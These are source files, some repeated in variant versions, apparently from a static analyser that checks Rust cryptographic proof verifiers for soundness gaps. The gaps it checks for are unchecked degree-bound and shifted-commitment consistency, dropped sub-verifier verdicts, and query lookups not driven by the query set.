                    elif src is not None and src[0] == "field":
                        # an order-preserving view / map of a field: judged where the field is built
                        res = check_field(f, src[1], src[2], memo)
                        for ok, where, detail in res:
                            (notes if ok else bad).append("%s.%s built at %s: %s" % (src[1].rsplit("::", 1)[-1], src[2], where, detail))
                        if not res:
                            unj += 1
                    elif src is not None and src[0] == "param" and "std::iter::IntoIterator" in (rb.locals[src[1]].get("bounds") or ()):
                        bad.append("the collection searched is collected in %s from the parameter `%s`, an iterator whose order "
                                   "the caller decides, and nothing sorts it (%d sort call(s) in that function)" % (
                                       short(top.id), rb.locals[src[1]].get("name") or "_%d" % src[1], ns))
                    elif src is None and not _grown(rb, r[1]):
                        notes.append("empty")
                    else:
                        unj += 1
                        notes.append("not judged: built from %s" % (src[0] if src else "pushed elements"))
                else:
                    unj += 1
                    notes.append("not judged: %s" % (r[1] if len(r) > 1 else r[0]))
            if not bad and unj == len(resolved):
                rep.add(rule, key, True, "receiver comes from outside the crate's own data (%s)" % "; ".join(notes[:2]), t["span"], nontrivial=False)
                continue
            judged += 1
            rep.add(rule, key, not bad,
                    ("the searched table is sorted where it is built: %s" % "; ".join(notes[:3])) if not bad else
                    ("%s at %s searches a table that may be unsorted: %s" % (c.rsplit("::", 1)[-1], t["span"], bad[0])), t["span"])
    return n, judged
