"""R1v VARIANT-CONSISTENCY: presence of the degree bound on the label and presence of the shifted commitment must be
checked against each other with a refusal.

Accepted forms: (a) a comparison (==, !=) of a presence observation of each whose result reaches the outcome;
(b) an aborting `unwrap` / `expect` of the shifted commitment inside a branch arm controlled by a presence test of
the bound; (c) a refusal (abort or returned `Err`) on a path on which the two presence tests came out *differently*
(the `_ => panic!()` arm of a `match (bound, shifted)`). Without one of them a label that claims a bound while the
shifted part was dropped is accepted unbounded."""
from collections import deque

from ..flow import DATA, MOVE, OUTCOME
from . import lenguard as LG
from . import meet as M

COPY_CALLS = ("as_ref", "clone", "copied", "cloned", "as_mut", "as_deref")


def option_copies(g, field_node):
    """locals holding a plain copy of (a reference to) the Option read from the field; tuple aggregates that hold
    such a copy in one component are returned separately as {(body, local): {component indices}}."""
    f = g.facts
    copies = set()
    if isinstance(field_node, tuple) and len(field_node) == 2 and field_node[0] in f.bodies:
        copies.add(field_node)        # the Option is a parameter: it is its own first copy
    dq = deque([field_node])
    seen = {field_node}
    while dq:
        n = dq.popleft()
        for e in g.fwd.get(n, ()):
            if e.kind != DATA or e.dst == OUTCOME or e.dst in seen:
                continue
            if not (isinstance(e.dst, tuple) and len(e.dst) == 2 and e.dst[0] in f.bodies and e.dst[1] >= 0):
                continue
            ok = e.op in (MOVE, "field", "hof") or (e.op == "foreign" and LG._is_result_edge(g, e) and
                                                    LG._callee_name(g, e) in COPY_CALLS)
            if not ok:
                continue
            ty = g.node_ty(e.dst) or ""
            if "Option<" not in ty or ty.lstrip("&mut ").startswith("("):
                continue
            seen.add(e.dst)
            copies.add(e.dst)
            dq.append(e.dst)
    tuples = {}
    for bid in g.scope:
        b = f.bodies[bid]
        for blk in b.blocks:
            for st in blk["stmts"]:
                rv = st["rv"]
                if rv.get("k") == "agg" and rv.get("ak") == "tuple" and not st["dst"]["p"]:
                    for j, o in enumerate(rv["ops"]):
                        if o["k"] in ("copy", "move") and not o["pl"]["p"] and (bid, o["pl"]["l"]) in copies:
                            tuples.setdefault((bid, st["dst"]["l"]), set()).add(j)
    return copies, tuples


def presence_observations(g, copies, tuples):
    """{(body, local): polarity}: locals holding the discriminant (polarity 1: value 1 means Some) or the result of
    is_some (1) / is_none (0) of a copy."""
    f = g.facts
    obs = {}
    for bid in g.scope:
        b = f.bodies[bid]
        for i, blk in enumerate(b.blocks):
            for st in blk["stmts"]:
                rv = st["rv"]
                if rv.get("k") != "discr" or st["dst"]["p"]:
                    continue
                pl = rv["pl"]
                fields = [e for e in pl["p"] if isinstance(e, dict) and "f" in e]
                if (bid, pl["l"]) in copies and not fields:
                    obs[(bid, st["dst"]["l"])] = 1
                elif (bid, pl["l"]) in tuples and len(fields) == 1 and fields[0]["f"] in tuples[(bid, pl["l"])]:
                    obs[(bid, st["dst"]["l"])] = 1
            t = blk["term"]
            if t["k"] == "call" and t["args"] and t["args"][0]["k"] in ("copy", "move") and not t["dst"]["p"]:
                nm = (t.get("callee") or "").rsplit("::", 1)[-1]
                if nm in ("is_some", "is_none") and (bid, t["args"][0]["pl"]["l"]) in copies:
                    obs[(bid, t["dst"]["l"])] = 1 if nm == "is_some" else 0
    # plain moves of an observation
    changed = True
    while changed:
        changed = False
        for bid in g.scope:
            b = f.bodies[bid]
            for blk in b.blocks:
                for st in blk["stmts"]:
                    rv = st["rv"]
                    if rv.get("k") == "use" and not st["dst"]["p"] and rv["ops"][0]["k"] in ("copy", "move") \
                            and not rv["ops"][0]["pl"]["p"]:
                        s = (bid, rv["ops"][0]["pl"]["l"])
                        d = (bid, st["dst"]["l"])
                        if s in obs and d not in obs:
                            obs[d] = obs[s]
                            changed = True
    return obs


def _targets(t, value):
    """successor blocks of a switch terminator for the given operand value."""
    out = [tb for (v, tb) in t.get("targets", []) if v == value]
    if not out and t.get("otherwise") is not None:
        out = [t["otherwise"]]
    return out


def _switches(b, obs, bid):
    out = []
    for i, blk in enumerate(b.blocks):
        t = blk["term"]
        if t["k"] == "switch" and t["op"]["k"] in ("copy", "move") and not t["op"]["pl"]["p"] and (bid, t["op"]["pl"]["l"]) in obs:
            out.append((i, t, obs[(bid, t["op"]["pl"]["l"])]))
    return out


def _reach(b, starts, stop):
    succ = b.succ()
    seen = set()
    st = list(starts)
    while st:
        x = st.pop()
        if x in seen or x == stop:
            continue
        seen.add(x)
        st.extend(succ[x])
    return seen


def _inevitable_refusal(b, start, refusing, limit=4000):
    """from block `start`, does every path end in a refusing block before a normal return? Locals that are assigned
    constants (and their copies / negations) are tracked, and a switch on a tracked local follows its one target."""
    succ = b.succ()
    work = [(start, ())]
    seen = set()
    steps = 0
    while work:
        blk, envt = work.pop()
        steps += 1
        if steps > limit:
            return False
        if (blk, envt) in seen:
            continue
        seen.add((blk, envt))
        if blk in refusing:
            continue
        env = dict(envt)
        x = b.blocks[blk]
        if x["cleanup"]:
            continue
        for st in x["stmts"]:
            d = st["dst"]
            rv = st["rv"]
            if d["p"]:
                continue
            val = None
            ops = rv.get("ops", [])
            if rv.get("k") == "use" and len(ops) == 1:
                o = ops[0]
                if o["k"] == "const" and isinstance(o.get("val"), (int, bool)):
                    val = int(o["val"])
                elif o["k"] in ("copy", "move") and not o["pl"]["p"] and o["pl"]["l"] in env:
                    val = env[o["pl"]["l"]]
            elif rv.get("k") == "unop" and rv.get("op") == "Not" and len(ops) == 1 and ops[0]["k"] in ("copy", "move") \
                    and not ops[0]["pl"]["p"] and ops[0]["pl"]["l"] in env:
                val = 0 if env[ops[0]["pl"]["l"]] else 1
            if val is None:
                env.pop(d["l"], None)
            else:
                env[d["l"]] = val
        t = x["term"]
        k = t["k"]
        if k == "return":
            return False
        if k == "call":
            if not t["dst"]["p"]:
                env.pop(t["dst"]["l"], None)
            nxt = [t["t"]] if t["t"] is not None else []
        elif k == "switch" and t["op"]["k"] in ("copy", "move") and not t["op"]["pl"]["p"] and t["op"]["pl"]["l"] in env:
            v = env[t["op"]["pl"]["l"]]
            nxt = [tb for (val, tb) in t.get("targets", []) if val == v] or [t.get("otherwise")]
        else:
            nxt = list(succ[blk])
        e2 = tuple(sorted(env.items()))
        for y in nxt:
            if y is not None:
                work.append((y, e2))
    return True


def _basic_refusing(b):
    refusing = set(b.diverging())
    for i, blk in enumerate(b.blocks):
        for st in blk["stmts"]:
            rv = st["rv"]
            if rv.get("k") == "agg" and rv.get("adt") == "std::result::Result" and rv.get("variant") == "Err":
                refusing.add(i)
            if st["dst"]["l"] == 0 and not st["dst"]["p"]:
                if rv.get("k") == "agg" and rv.get("variant") == "None":
                    refusing.add(i)
                ops = rv.get("ops", [])
                if rv.get("k") in ("agg", "use") and len(ops) == 1 and ops[0]["k"] == "const" and ops[0].get("val") in (0, False, "false") \
                        and (ops[0].get("ty") == "bool"):
                    refusing.add(i)
    return refusing


def refused_variants(g, hb):
    """variants of the crate enum returned by helper `hb` that every caller in scope turns into a refusal: the arm the
    caller's `match` takes for that variant ends, on every path, in an `Err` / a negative verdict / an abort."""
    f = g.facts
    ret_ty = hb.locals[0]["ty"] or ""
    adt = next((a for a in f.adts if ret_ty.startswith(a) or ret_ty == a), None)
    if adt is None or f.adts[adt].get("kind") != "Enum":
        return None, set()
    names = [v["name"] for v in f.adts[adt]["variants"]]
    per_caller = []
    for cb in sorted(g.scope):
        b = f.bodies[cb]
        for i, t in b.calls():
            if hb.id not in f.call_targets(t, g.ctx_adt) or t["dst"]["p"]:
                continue
            copies = {t["dst"]["l"]}
            discr = set()
            changed = True
            while changed:
                changed = False
                for blk in b.blocks:
                    for st in blk["stmts"]:
                        rv, d = st["rv"], st["dst"]
                        if d["p"]:
                            continue
                        if rv.get("k") in ("use", "ref") and d["l"] not in copies:
                            pl = rv.get("pl") if rv.get("k") == "ref" else (rv["ops"][0].get("pl") if rv["ops"][0]["k"] in ("copy", "move") else None)
                            if pl is not None and pl["l"] in copies and all(e == "*" for e in pl["p"]):
                                copies.add(d["l"])
                                changed = True
                        if rv.get("k") == "discr" and rv["pl"]["l"] in copies and d["l"] not in discr:
                            discr.add(d["l"])
                            changed = True
            refusing = _basic_refusing(b)
            ok = set()
            for j, blk in enumerate(b.blocks):
                tt = blk["term"]
                if tt["k"] == "switch" and tt["op"]["k"] in ("copy", "move") and tt["op"]["pl"]["l"] in discr:
                    for k, nm in enumerate(names):
                        tg = _targets(tt, k)
                        if tg and all(x in refusing or _inevitable_refusal(b, x, refusing) for x in tg):
                            ok.add(nm)
            per_caller.append(ok)
    if not per_caller:
        return adt, set()
    return adt, set.intersection(*per_caller)


def mismatch_refusal(g, odb, osc):
    """a refusing block reached with the first test saying `present` and the second `absent` or the other way round."""
    f = g.facts
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        s1s = _switches(b, odb, bid)
        s2s = _switches(b, osc, bid)
        if not s1s or not s2s:
            continue
        refusing = _basic_refusing(b)
        # a helper that answers with a private verdict enum: the variants every caller turns into a refusal
        if b.kind != "Closure":
            adt_, bad_vars = refused_variants(g, b)
            if bad_vars:
                for i, blk in enumerate(b.blocks):
                    for st in blk["stmts"]:
                        rv = st["rv"]
                        if st["dst"]["l"] == 0 and not st["dst"]["p"] and rv.get("k") == "agg" and rv.get("adt") == adt_ and rv.get("variant") in bad_vars:
                            refusing.add(i)
        for (first, second) in ((s1s, s2s), (s2s, s1s)):
            for (i1, t1, p1) in first:
                for (i2, t2, p2) in second:
                    if i1 == i2:
                        continue
                    for present in (1, 0):
                        v1 = present if p1 == 1 else 1 - present          # switch value meaning "first is present/absent"
                        v2 = (1 - present) if p2 == 1 else present        # second has the opposite presence
                        for a in _targets(t1, v1):
                            if not (b.dominates(a, i2) or a == i2):
                                continue
                            for c in _targets(t2, v2):
                                region = _reach(b, [c], i1)
                                hit = [r for r in region if r in refusing and b.dominates(c, r)]
                                if hit:
                                    return b.blocks[hit[0]]["term"].get("span") or b.span
                                # the arm may only record the mismatch in a flag that is tested after the join
                                # (`None => false` .. `if !is_enforced { return Err(..) }`): follow constants
                                if _inevitable_refusal(b, c, refusing):
                                    return b.blocks[c]["term"].get("span") or b.span
    return None


def check(ctx, anchor, db_field, sc_field, g=None, span=None):
    g = g or ctx.graph(anchor)
    f = ctx.facts
    if db_field not in g.fwd or sc_field not in g.fwd:
        return False, "degree bound or shifted commitment is never read", span or anchor.body.span
    cdb, tdb = option_copies(g, db_field)
    csc, tsc = option_copies(g, sc_field)
    odb = presence_observations(g, cdb, tdb)
    osc = presence_observations(g, csc, tsc)
    vdb = LG.data_closure(g, set(odb), limit=300)
    vsc = LG.data_closure(g, set(osc), limit=300)
    # (a) comparison of the two presences
    for (bid, blk, l, r, res, span) in M.comparison_sites(g, equality_only=True):
        if (any(n in vdb for n in l) and any(n in vsc for n in r)) or (any(n in vsc for n in l) and any(n in vdb for n in r)):
            g.reach([res], want=OUTCOME)
            if g.last_goal is not None:
                return True, "presence of the bound and of the shifted commitment are compared at %s" % span, span
    # (b) unwrap of the shifted commitment under a test of the bound (`ok_or(..)?` refuses by returning the error)
    from .refusal import controlling_conditions
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm not in ("unwrap", "expect", "ok_or", "ok_or_else") or not t["args"] or t["args"][0]["k"] not in ("copy", "move"):
                continue
            if nm in ("ok_or", "ok_or_else"):
                g.reach([(bid, t["dst"]["l"])], want=OUTCOME)
                if g.last_goal is None:
                    continue
            if (bid, t["args"][0]["pl"]["l"]) not in csc:
                continue
            if controlling_conditions(g, bid, i) & set(odb):
                return True, "the shifted commitment is unwrapped (aborting if absent) under a test of the bound at %s" % t["span"], t["span"]
    # (c) a refusal on a path where the two tests disagree
    sp = mismatch_refusal(g, odb, osc)
    if sp is not None:
        return True, "a refusal at %s is reached exactly when one of the two is present and the other is not" % sp, sp
    return False, ("no refusal ties the presence of the degree bound to the presence of the shifted commitment: a label "
                   "claiming a bound is accepted even if the shifted part was dropped"), span or anchor.body.span
