"""R1v VARIANT-CONSISTENCY: presence of the degree bound on the label and presence of the shifted commitment must be
checked against each other with a refusal.

Either (a) a comparison (==, !=) of a variant observation of each, whose result reaches the outcome, or (b) an
aborting `unwrap` / `expect` of the shifted commitment inside a branch arm controlled by a variant observation of
the degree bound. Without it a label that claims a bound while the shifted part was dropped is accepted unbounded."""
from collections import deque

from ..engine import short, where_of
from ..flow import DATA, ALIAS, MOVE, OUTCOME, DISCR
from . import lenguard as LG
from . import meet as M


def variant_observations(g, field_node):
    """nodes holding is_some / discriminant observations of plain copies of the field, closed under data flow."""
    copies = {field_node}
    dq = deque([field_node])
    seeds = set()
    while dq:
        n = dq.popleft()
        for e in g.fwd.get(n, ()):
            if e.kind != DATA or e.dst == OUTCOME:
                continue
            if e.op in (DISCR, "fieldshape"):
                seeds.add(e.dst)
                continue
            ok = e.op in (MOVE, "field", "hof") or (e.op == "foreign" and LG._is_result_edge(g, e) and
                                                    LG._callee_name(g, e) in ("as_ref", "clone", "copied", "cloned", "as_mut"))
            if ok and e.dst not in copies and isinstance(e.dst, tuple) and len(e.dst) == 2:
                copies.add(e.dst)
                dq.append(e.dst)
    return LG.data_closure(g, seeds, limit=300), copies


def check(ctx, anchor, db_field, sc_field):
    g = ctx.graph(anchor)
    f = ctx.facts
    if db_field not in g.fwd or sc_field not in g.fwd:
        return False, "degree bound or shifted commitment is never read", anchor.body.span
    vdb, _ = variant_observations(g, db_field)
    vsc, sc_copies = variant_observations(g, sc_field)
    # (a) comparison of the two presences
    for (bid, blk, l, r, res, span) in M.comparison_sites(g, equality_only=True):
        if (any(n in vdb for n in l) and any(n in vsc for n in r)) or (any(n in vsc for n in l) and any(n in vdb for n in r)):
            g.reach([res], want=OUTCOME)
            if g.last_goal is not None:
                return True, "presence of the bound and of the shifted commitment are compared at %s" % span, span
    # (b) unwrap of the shifted commitment under a test of the bound
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        cd = None
        for i, t in b.calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm not in ("unwrap", "expect") or not t["args"] or t["args"][0]["k"] not in ("copy", "move"):
                continue
            if (bid, t["args"][0]["pl"]["l"]) not in sc_copies:
                continue
            from .refusal import controlling_conditions
            if controlling_conditions(g, bid, i) & vdb:
                return True, "the shifted commitment is unwrapped (aborting if absent) under a test of the bound at %s" % t["span"], t["span"]
    # (c) a refusal (abort, or construction of an error) controlled by tests of both presences, e.g. the
    #     `_ => panic!()` / `_ => return Err(..)` arm of a `match (bound, shifted)`
    from .refusal import controlling_conditions
    for (bid, i, kind) in g.sink_sites:
        b = f.bodies[bid]
        t = b.blocks[i]["term"]
        conds = set(controlling_conditions(g, bid, i))
        if t["k"] in ("switch", "assert") and t["op"]["k"] in ("copy", "move"):
            conds.add((bid, t["op"]["pl"]["l"]))
        if conds & vdb and conds & vsc:
            return True, "a refusal at %s is controlled by tests of both presences" % t.get("span"), t.get("span")
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, blk in enumerate(b.blocks):
            for st in blk["stmts"]:
                rv = st["rv"]
                if rv.get("k") == "agg" and rv.get("adt") == "std::result::Result" and rv.get("variant") == "Err":
                    conds = controlling_conditions(g, bid, i)
                    if conds & vdb and conds & vsc:
                        g.reach([(bid, st["dst"]["l"])], want=OUTCOME)
                        if g.last_goal is not None:
                            return True, "an error built under tests of both presences is returned (line %s)" % st.get("line"), b.span
    return False, ("no refusal ties the presence of the degree bound to the presence of the shifted commitment: a label "
                   "claiming a bound is accepted even if the shifted part was dropped"), anchor.body.span
