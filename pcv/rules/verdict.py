"""R3 VERDICT-CONSUMED: the boolean inside every Result<bool, _> produced by a (sub-)verifier call must be
able to influence the outcome. Verdict producers are found by type: any call in the verifier's scope whose
result is `Result<bool, _>` and whose callee is not one of std's Result/ControlFlow carriers."""
import re

from ..engine import short
from ..flow import OUTCOME, strip_refs

VERDICT_TY = re.compile(r"^std::result::Result<bool, ")
CARRIER_PREFIX = ("std::", "core::", "alloc::")


def verdict_sites(ctx, g):
    f = ctx.facts
    out = []
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            dty = g._place_ty(b, t["dst"])
            if not dty or not VERDICT_TY.match(strip_refs(dty)):
                continue
            callee = t.get("callee") or ""
            if callee.startswith(CARRIER_PREFIX):
                continue
            out.append((bid, i, t))
    return out


def run(rep, ctx, anchor, rule="R3"):
    g = ctx.graph(anchor)
    f = ctx.facts
    sites = verdict_sites(ctx, g)
    rep.count("verdict_sites", len(sites))
    per_callee = {}
    for bid, i, t in sites:
        callee = t.get("resolved") or t.get("callee")
        k = per_callee.get((bid, callee), 0)
        per_callee[(bid, callee)] = k + 1
        d = (bid, t["dst"]["l"])
        par = g.reach([("STATE", d, "bool")], want=OUTCOME)
        ok = g.last_goal is not None
        name = re.sub(r"<.*?>", "", callee or "?")
        key = "%s:verdict:%s@%s#%d" % (anchor.key, name.replace("::::", "::"), short(bid), k)
        rep.add(rule, key, ok,
                ("verdict of %s at %s %s" % (callee, t["span"], "is consumed" if ok else
                                              "is computed and dropped: its boolean cannot influence the outcome")),
                t["span"])
        # a sub-verifier that sits in a loop runs for every element: no path completes an iteration around it
        from .everyiter import bypass_of_block
        from .rng import cyclic_blocks
        b = f.bodies[bid]
        if i in cyclic_blocks(b):
            by = bypass_of_block(b, i)
            rep.add(rule, key + ":every-iteration", by is None,
                    "the sub-verifier call at %s lies on every non-refusing path of its loop iteration" % t["span"] if by is None else
                    "one iteration of the loop around the sub-verifier call at %s can complete without it (via %s): that "
                    "element is not verified" % (t["span"], by), t["span"])


# ---------------------------------------------------------------------------------------------------------
# R3o: a rejection signalled by `None`
OBSERVERS = ("ok_or", "ok_or_else", "unwrap", "expect", "is_none", "is_some", "branch", "unwrap_or", "unwrap_or_else",
             "unwrap_or_default", "map_or", "map_or_else", "is_some_and", "is_none_or", "eq", "ne")
KEEPERS = ("map", "as_ref", "as_mut", "as_deref", "cloned", "copied", "clone", "and_then", "filter", "take", "inspect")


def _constructs_none(cb):
    """the body builds `None` itself on some path (a computed absence, not a copied field)."""
    for blk in cb.blocks:
        if blk["cleanup"]:
            continue
        for st in blk["stmts"]:
            rv = st["rv"]
            if rv.get("k") == "agg" and rv.get("adt") == "std::option::Option" and rv.get("variant") == "None":
                return True
    return False


def option_verdict_sites(ctx, g, proof_adts):
    """calls, in the verifier's scope, of crate functions (not closures) that are handed the proof, return `Option<_>`
    and build `None` themselves: the absence is a result of the callee's computation on the proof - its rejection."""
    f = ctx.facts
    out = []
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            dty = strip_refs(g._place_ty(b, t["dst"]) or "")
            if not dty.startswith("std::option::Option<") or t["dst"]["p"]:
                continue
            tg = [c for c in f.call_targets(t, g.ctx_adt) if f.bodies[c].kind != "Closure"]
            # a sub-verifier: it is handed (part of) the proof. An Option-returning helper that only re-shapes its
            # inputs (`zip` of two Options) is data, not a verdict
            tg = [c for c in tg if any(any(p in (f.bodies[c].locals[k]["ty"] or "") for p in proof_adts)
                                       for k in range(1, f.bodies[c].arg_count + 1))]
            if tg and any(_constructs_none(f.bodies[c]) for c in tg):
                out.append((bid, i, t))
    return out


def _observed(b, local, depth=0):
    """the variant of the Option in `local` is looked at: a `match` / `if let` (discriminant read), a refusing or
    testing carrier (`?`, `ok_or`, `unwrap`, `is_none`, ..), or it is handed back to the caller. Adaptors that keep the
    variant (`map`, `as_ref`) pass the duty on to their result. Storing it in a container or feeding it to an adaptor
    that silently drops `None` (`flatten`, `filter_map`, `flat_map`) is not an observation."""
    if depth > 6:
        return True
    copies = {local}
    changed = True
    while changed:
        changed = False
        for blk in b.blocks:
            for st in blk["stmts"]:
                rv, d = st["rv"], st["dst"]
                if d["p"] or d["l"] in copies:
                    continue
                src = rv["pl"] if rv.get("k") == "ref" else (rv["ops"][0].get("pl") if rv.get("k") == "use" and rv["ops"][0]["k"] in ("copy", "move") else None)
                if src is not None and src["l"] in copies and all(e == "*" for e in src["p"]):
                    copies.add(d["l"])
                    changed = True
    if 0 in copies:
        return True
    for blk in b.blocks:
        if blk["cleanup"]:
            continue
        for st in blk["stmts"]:
            rv = st["rv"]
            if rv.get("k") == "discr" and rv["pl"]["l"] in copies:
                return True
            if st["dst"]["l"] == 0 and any(o["k"] in ("copy", "move") and o["pl"]["l"] in copies for o in rv.get("ops", [])):
                return True     # wrapped into the return value: the caller's business
        t = blk["term"]
        if t["k"] == "call" and t["args"] and t["args"][0]["k"] in ("copy", "move") and t["args"][0]["pl"]["l"] in copies:
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm in OBSERVERS:
                return True
            if nm in KEEPERS and not t["dst"]["p"] and _observed(b, t["dst"]["l"], depth + 1):
                return True
    return False


def _observed_directly(b, l):
    for blk in b.blocks:
        if blk["cleanup"]:
            continue
        for st in blk["stmts"]:
            rv = st["rv"]
            if rv.get("k") == "discr" and rv["pl"]["l"] == l:
                return True
        t = blk["term"]
        if t["k"] == "call" and t["args"] and t["args"][0]["k"] in ("copy", "move") and t["args"][0]["pl"]["l"] == l \
                and (t.get("callee") or "").rsplit("::", 1)[-1] in OBSERVERS:
            return True
    return False


def run_option(rep, ctx, anchor, rule="R3"):
    g = ctx.graph(anchor)
    f = ctx.facts
    n = 0
    per = {}
    proof_adts = sorted({e[0] for e in (anchor.info.get("proof") or ())})
    for bid, i, t in option_verdict_sites(ctx, g, proof_adts):
        n += 1
        callee = re.sub(r"<.*?>", "", t.get("resolved") or t.get("callee") or "?").replace("::::", "::")
        k = per.get((bid, callee), 0)
        per[(bid, callee)] = k + 1
        ok = _observed(f.bodies[bid], t["dst"]["l"])
        if not ok:
            # stored first and examined later (`results.iter().any(|r| r.is_none())`): some value of the same Option
            # type is observed in this function or in one of its closures
            want = strip_refs(g._place_ty(f.bodies[bid], t["dst"]) or "")
            fam = [x for x in g.scope if x == bid or (f.bodies[x].kind == "Closure" and f.bodies[x].root == f.bodies[bid].root)]
            for x in fam:
                bx = f.bodies[x]
                for l, loc in enumerate(bx.locals):
                    if l != t["dst"]["l"] or x != bid:
                        if strip_refs(loc["ty"] or "") == want and _observed_directly(bx, l):
                            ok = True
                            break
                if ok:
                    break
        rep.add(rule, "%s:absence:%s@%s#%d" % (anchor.key, callee, short(bid), k), ok,
                ("whether %s returned None is looked at where it is called (%s)" % (callee, t["span"])) if ok else
                ("%s can answer None (it builds one itself), and the call at %s never looks at the variant: the result is "
                 "stored or handed to an adaptor that silently drops None - a rejection signalled that way is lost" % (callee, t["span"])),
                t["span"])
    return n
