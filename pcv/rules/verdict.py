"""R3 VERDICT-CONSUMED: the boolean inside every Result<bool, _> produced by a (sub-)verifier call must be
able to influence the outcome. Verdict producers are found by type: any call in the verifier's scope whose
result is `Result<bool, _>` and whose callee is not one of std's Result/ControlFlow carriers."""
import re

from ..engine import short
from ..flow import OUTCOME, strip_refs

VERDICT_TY = re.compile(r"^std::result::Result<bool, ")
CARRIER_PREFIX = ("std::", "core::", "alloc::")


def verdict_sites(ctx, g):
    f = ctx.facts
    out = []
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            dty = g._place_ty(b, t["dst"])
            if not dty or not VERDICT_TY.match(strip_refs(dty)):
                continue
            callee = t.get("callee") or ""
            if callee.startswith(CARRIER_PREFIX):
                continue
            out.append((bid, i, t))
    return out


def run(rep, ctx, anchor, rule="R3"):
    g = ctx.graph(anchor)
    f = ctx.facts
    sites = verdict_sites(ctx, g)
    rep.count("verdict_sites", len(sites))
    per_callee = {}
    for bid, i, t in sites:
        callee = t.get("resolved") or t.get("callee")
        k = per_callee.get((bid, callee), 0)
        per_callee[(bid, callee)] = k + 1
        d = (bid, t["dst"]["l"])
        par = g.reach([("STATE", d, "bool")], want=OUTCOME)
        ok = g.last_goal is not None
        name = re.sub(r"<.*?>", "", callee or "?")
        key = "%s:verdict:%s@%s#%d" % (anchor.key, name.replace("::::", "::"), short(bid), k)
        rep.add(rule, key, ok,
                ("verdict of %s at %s %s" % (callee, t["span"], "is consumed" if ok else
                                              "is computed and dropped: its boolean cannot influence the outcome")),
                t["span"])
        # a sub-verifier that sits in a loop runs for every element: no path completes an iteration around it
        from .everyiter import bypass_of_block
        from .rng import cyclic_blocks
        b = f.bodies[bid]
        if i in cyclic_blocks(b):
            by = bypass_of_block(b, i)
            rep.add(rule, key + ":every-iteration", by is None,
                    "the sub-verifier call at %s lies on every non-refusing path of its loop iteration" % t["span"] if by is None else
                    "one iteration of the loop around the sub-verifier call at %s can complete without it (via %s): that "
                    "element is not verified" % (t["span"], by), t["span"])
