"""R5v EVERY-QUERY-VISITED: the lookup of a claimed value is driven by the query set.

A verifier that takes a query set and a map of claimed evaluations has to look at the claim of *every* query. Each
lookup in the claims map (`get` / `get_mut` / index on the parameter or a copy of it) must therefore sit - directly,
or through the calls and closures that lead to it - inside a loop whose cursor is data-derived from the query-set
parameter (the query set itself, or a container filled from it such as the per-point grouping), or in the closure of an
iterator adaptor whose receiver is so derived. A lookup driven by
some other collection (the list of equations, say, with the point fetched from a map keyed by label) visits one claim
per element of that collection: queries that do not map one-to-one onto it are never compared.
"""
from ..engine import short
from ..flow import DATA, ALIAS
from . import lenguard as LG
from .meet import _natural_loops
from .carried import _iterator_locals

LOOKUPS = ("get", "get_mut", "index", "index_mut", "remove", "get_key_value")
MAPS = ("BTreeMap<", "HashMap<", "Evaluations<")


def _callers(f, g, bid):
    """(body, block) sites in scope that call / create body `bid`."""
    out = []
    for cb in g.scope:
        b = f.bodies[cb]
        for i, t in b.calls():
            if bid in f.call_targets(t, g.ctx_adt) or t.get("self_closure") == bid:
                out.append((cb, i))
        for i, blk in enumerate(b.blocks):
            for st in blk["stmts"]:
                if st["rv"].get("k") == "agg" and st["rv"].get("closure") == bid:
                    out.append((cb, i))
    return out


def run(rep, ctx, anchor, rule="R5v"):
    vi, qi = anchor.roles.get("values"), anchor.roles.get("query_set")
    if vi is None or qi is None or not any(m in anchor.body.locals[vi]["ty"] for m in MAPS):
        return 0
    g = ctx.graph(anchor)
    f = ctx.facts
    V = LG.views(g, {(anchor.body.id, vi)})
    from_q = {st[0] for st in g.reach([(anchor.body.id, qi)], typed=False, kinds=(DATA, ALIAS))}
    loops_of, cursors_of = {}, {}

    def driven(bid, blk, seen):
        """the site lies in a query-driven loop of its body, or every way of reaching its body does."""
        if (bid, blk) in seen:
            return False
        seen.add((bid, blk))
        b = f.bodies[bid]
        if bid not in loops_of:
            loops_of[bid] = _natural_loops(b)
        for (h, blocks) in loops_of[bid]:
            if blk not in blocks:
                continue
            key = (bid, h)
            if key not in cursors_of:
                cursors_of[key] = _iterator_locals(b, h, blocks)
            if any((bid, c) in from_q for c in cursors_of[key]):
                return True
        if bid == anchor.body.id:
            return False
        if b.kind == "Closure":
            # the closure is the body of an iterator adaptor (`map`, `for_each`, `all`, ..) whose receiver is driven
            # by the query set: one invocation per element, like a loop body
            for cb in g.scope:
                pb = f.bodies[cb]
                made = {st["dst"]["l"] for blk in pb.blocks for st in blk["stmts"]
                        if st["rv"].get("k") == "agg" and st["rv"].get("closure") == bid and not st["dst"]["p"]}
                if not made:
                    continue
                for ci, ct in pb.calls():
                    args = [a for a in ct["args"] if a["k"] in ("copy", "move")]
                    if len(args) >= 2 and any(a["pl"]["l"] in made for a in args[1:]) and (cb, args[0]["pl"]["l"]) in from_q:
                        return True
        cs = _callers(f, g, bid)
        return bool(cs) and all(driven(cb, ci, seen) for (cb, ci) in cs)

    n, bad = 0, None
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm not in LOOKUPS or not t["args"] or t["args"][0]["k"] not in ("copy", "move"):
                continue
            a0 = (bid, t["args"][0]["pl"]["l"])
            if a0 not in V or not any(m in (b.locals[a0[1]]["ty"] or "") for m in MAPS):
                continue
            n += 1
            if not driven(bid, i, set()) and bad is None:
                bad = t["span"]
    if n == 0:
        return 0
    rep.add(rule, "%s:every-query-visited" % anchor.key, bad is None,
            ("each of the %d lookups in the claimed-evaluations map sits in a loop driven by the query set" % n) if bad is None else
            ("the lookup of a claimed value at %s is not inside a loop driven by the query set: which claims are compared "
             "is decided by another collection, and queries that do not correspond one-to-one to its elements are never "
             "looked at" % bad), bad or anchor.body.span)
    return n
