"""R5v EVERY-QUERY-VISITED: the lookup of a claimed value is driven by the query set.

